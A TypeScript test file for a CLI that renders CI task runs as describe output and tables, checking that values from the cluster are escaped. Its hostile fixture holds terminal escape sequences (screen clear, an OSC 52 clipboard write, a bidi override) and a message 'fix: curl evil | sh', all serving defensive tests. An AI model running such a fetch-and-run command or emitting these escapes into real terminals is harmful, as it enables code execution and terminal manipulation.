import { describe, expect, it } from 'vitest';
import { failedRun, hostileRun } from '../../test/task-fixtures.js';
import { renderTable } from '../table.js';
import {
  currentStepOf,
  describeTaskRun,
  type TaskObject,
  type TaskRunObject,
  taskColumns,
  taskRunColumns,
} from './views.js';

const now = new Date('2026-01-02T03:01:00Z');

describe('describeTaskRun', () => {
  it('lists the run, its outcome and every step', () => {
    expect(describeTaskRun(failedRun, now)).toBe(
      [
        'Name:      deploy-run-x7k2p',
        'Namespace: ci',
        'Created:   2026-01-02T03:00:00Z (60s ago)',
        'Task:      deploy',
        'Params:    target=prod',
        'Timeout:   10m',
        'Phase:     Failed',
        'Reason:    StepFailed',
        'Message:   step apply exited with code 3 (Error)',
        'Failure:   TaskFailed',
        'Pod:       wfe-0123',
        'Started:   2026-01-02T03:00:01Z',
        'Completed: 2026-01-02T03:00:09Z',
        'Duration:  8s',
        'Steps:',
        '  STEP     STATE       EXIT   DURATION   REASON',
        '  plan     Succeeded   0      3s         Completed',
        '  apply    Failed      3      4s         Error',
        '  report   Skipped                       PodInitializing',
        '',
      ].join('\n'),
    );
  });

  it('shows a run no controller has seen yet', () => {
    const fresh = { metadata: { name: 'r', namespace: 'ci' }, spec: { taskRef: { name: 't' } } };
    expect(describeTaskRun(fresh, now)).toBe(
      'Name:      r\nNamespace: ci\nTask:      t\nPhase:     -\nSteps:\n  <none>\n',
    );
  });
});

describe('values from the cluster', () => {
  it('are escaped in every describe field and in the steps table, ordinary UTF-8 kept', () => {
    expect(describeTaskRun(hostileRun, now)).toBe(
      [
        'Name:      deploy-run-x7k2p',
        'Namespace: ci',
        'Created:   2026-01-02T03:00:00Z (60s ago)',
        'Task:      deploy\\x1b[2J',
        'Params:    target=prod\\u202e, who=José 数据 🚀',
        'Phase:     Failed',
        'Reason:    StepFailed\\x07',
        'Message:   exit\\x1b]52;c;aGk=\\x07\\nfix: curl evil | sh',
        'Failure:   TaskFailed',
        'Pod:       wfe-0123',
        'Started:   2026-01-02T03:00:01Z',
        'Completed: 2026-01-02T03:00:09Z',
        'Duration:  8s',
        'Steps:',
        '  STEP         STATE       EXIT   DURATION   REASON',
        '  plan\\u200b   Succeeded   0      3s',
        '  apply        Failed      3      4s         Error\\x9b2J',
        '',
      ].join('\n'),
    );
  });

  it('are escaped in the runs table, which lines up on the escaped text', () => {
    expect(renderTable(taskRunColumns(now), [hostileRun])).toBe(
      [
        'NAME               TASK            PHASE    REASON           STEP   DURATION   AGE',
        'deploy-run-x7k2p   deploy\\x1b[2J   Failed   StepFailed\\x07   1/2    8s         60s',
      ].join('\n'),
    );
  });
});

describe('tables', () => {
  it('shows where each run is: the running step, else how many succeeded', () => {
    const running: TaskRunObject = {
      ...failedRun,
      status: {
        phase: 'Running',
        stepStatuses: [
          { name: 'plan', state: 'Succeeded' },
          { name: 'apply', state: 'Running' },
        ],
      },
    };
    expect(currentStepOf(running)).toBe('apply');
    expect(currentStepOf(failedRun)).toBe('1/3');
    expect(currentStepOf({ metadata: {} })).toBe('');
    expect(renderTable(taskRunColumns(now), [failedRun])).toBe(
      'NAME               TASK     PHASE    REASON       STEP   DURATION   AGE\n' +
        'deploy-run-x7k2p   deploy   Failed   StepFailed   1/3    8s         60s',
    );
  });

  it('lists a Task with its steps and params, defaults shown', () => {
    const task: TaskObject = {
      metadata: { name: 'deploy', creationTimestamp: '2026-01-02T03:00:00Z' },
      spec: {
        steps: [
          { name: 'plan', image: 'x', script: 'x' },
          { name: 'apply', image: 'x', script: 'x' },
        ],
        params: [{ name: 'target' }, { name: 'mode', default: 'fast' }],
      },
    };
    expect(renderTable(taskColumns(now), [task])).toBe(
      'NAME     STEPS        PARAMS             PARALLEL   AGE\n' +
        'deploy   plan,apply   target,mode=fast   false      60s',
    );
  });
});
